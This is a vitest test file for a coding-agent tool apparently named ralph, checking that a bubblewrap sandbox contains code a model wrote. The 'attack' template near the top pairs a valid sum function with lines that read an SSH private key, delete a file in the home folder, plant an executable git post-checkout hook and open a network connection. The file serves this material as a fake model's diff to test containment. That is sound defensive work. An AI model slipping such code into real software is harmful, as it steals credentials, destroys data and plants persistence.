/** Code that a model wrote runs in the tests: what it can reach when ralph runs them, and what it could without. */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { runProcess } from "../../src/io/process.ts";
import { findSandbox } from "../../src/io/sandbox.ts";
import { startLlamaServer } from "../fixtures/servers/llama-server.ts";
import { ralph } from "../support/ralph.ts";
import { sumProject } from "../support/sum-project.ts";
import { temporaryFolder } from "../support/temporary.ts";

const found = await findSandbox(runProcess, process.env, homedir(), new AbortController().signal);

/** Does what the task asks for, and more; by the folder's name it would be refused before it runs. */
const attack = (hooks: string, port: number): string => `import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { createConnection } from "node:net";
const tried = {};
const attempt = (what, act) => { try { tried[what] = act() ?? "done"; } catch (error) { tried[what] = error.code; } };
attempt("key", () => readFileSync(process.env.HOME + "/.ssh/id_ed25519", "utf8"));
attempt("home", () => rmSync(process.env.HOME + "/precious", { force: false }));
attempt("hook", () => writeFileSync(Buffer.from("${Buffer.from(hooks).toString("base64")}", "base64") + "/post-checkout", "#!/bin/sh\\n", { mode: 0o755 }));
createConnection(${port}, "127.0.0.1").on("connect", function () { this.end("hello"); }).on("error", () => {});
export function sum(a, b) {
  return a + b;
}
console.log("TRIED " + JSON.stringify(tried));
`;

async function runAttack(sandbox: "bwrap" | "none") {
  const heard: string[] = [];
  const listener = createServer((socket) => socket.on("data", (data) => heard.push(data.toString())));
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => void listener.close());
  const address = listener.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;

  const home = temporaryFolder("ralph-home");
  mkdirSync(join(home, ".ssh"));
  writeFileSync(join(home, ".ssh/id_ed25519"), "the private key");
  writeFileSync(join(home, "precious"), "x");

  const server = await startLlamaServer((): string => {
    const hooks = join(sum.root, ".git/hooks");
    const lines = attack(hooks, port).split("\n").slice(0, -1);
    const old = ["export function sum(a, b) {", "  return a - b;", "}"];
    return `\`\`\`diff\n--- a/src/sum.js\n+++ b/src/sum.js\n@@ -1,3 +1,${lines.length} @@\n${old.map((line) => `-${line}\n`).join("")}${lines.map((line) => `+${line}\n`).join("")}\`\`\`\n`;
  });
  onTestFinished(() => server.close());
  const sum = sumProject({ url: server.url });
  sum.commit({ "ralph.yaml": `${sum.read("ralph.yaml")}sandbox: ${sandbox}\nverify: "off"\n` });
  const { exitCode, stdout } = await ralph(["tdd", "--json"], { cwd: sum.root, env: { HOME: home } });
  return {
    exitCode,
    sandbox: /"sandbox":"(\w+)"/.exec(stdout)?.[1],
    tried: /TRIED (\{.*?\})/.exec(stdout.replaceAll('\\\\"', '"').replaceAll('\\"', '"'))?.[1],
    heard: heard.join(""),
    isPreciousLeft: existsSync(join(home, "precious")),
    hasHook: readdirSync(join(sum.root, ".git/hooks")).includes("post-checkout"),
    key: readFileSync(join(home, ".ssh/id_ed25519"), "utf8"),
    shown: stdout.includes("the private key"),
  };
}

describe.skipIf(found.kind === "none")("code that a model wrote, while its tests run", () => {
  test("reaches neither home, nor network, nor the repository's hooks, and the honest part of it is proved", async () => {
    expect(await runAttack("bwrap")).toMatchObject({
      exitCode: 0,
      sandbox: "bwrap",
      tried: '{"key":"ENOENT","home":"ENOENT","hook":"EROFS"}',
      heard: "",
      isPreciousLeft: true,
      hasHook: false,
      shown: false,
    });
  });

  test("reaches all of it without a sandbox", async () => {
    const { exitCode, sandbox, heard, isPreciousLeft, hasHook } = await runAttack("none");
    expect({ exitCode, sandbox, isPreciousLeft, hasHook }).toEqual({
      exitCode: 0,
      sandbox: "none",
      isPreciousLeft: false,
      hasHook: true,
    });
    expect(heard).toContain("hello");
  });
});

test("a sandbox that is asked for and does not work is told with the cure, and nothing runs", async () => {
  const server = await startLlamaServer("");
  onTestFinished(() => server.close());
  const sum = sumProject({ url: server.url });
  sum.commit({ "ralph.yaml": `${sum.read("ralph.yaml")}sandbox: bwrap\n` });
  const path = join(temporaryFolder(), "bin");
  mkdirSync(path);
  for (const name of ["git", "node"])
    writeFileSync(join(path, name), `#!/bin/sh\nPATH='${process.env.PATH}' exec ${name} "$@"\n`, { mode: 0o755 });
  const { exitCode, stderr } = await ralph(["tdd"], { cwd: sum.root, env: { PATH: path } });
  expect(exitCode).toBe(2);
  expect(stderr).toMatch(/sandbox: bwrap.*bubblewrap is not installed.*\n.*sandbox: auto/);
  expect(sum.statusBlock()).toMatch(/^STATUS: PENDING/);
});

test("where it works automatically or not is said once, and the checks run", async () => {
  const server = await startLlamaServer("TASK_COMPLETE");
  onTestFinished(() => server.close());
  const sum = sumProject({ url: server.url, limits: { attempts: 1 } });
  const path = join(temporaryFolder(), "bin");
  mkdirSync(path);
  for (const name of ["git", "node", "npm"])
    writeFileSync(join(path, name), `#!/bin/sh\nPATH='${process.env.PATH}' exec ${name} "$@"\n`, { mode: 0o755 });
  const { stderr } = await ralph(["tdd"], { cwd: sum.root, env: { PATH: path } });
  expect(stderr.match(/checks run without a sandbox: bubblewrap is not installed/g)).toHaveLength(1);
  expect(sum.statusBlock()).toMatch(/^STATUS: BLOCKED - /);
});
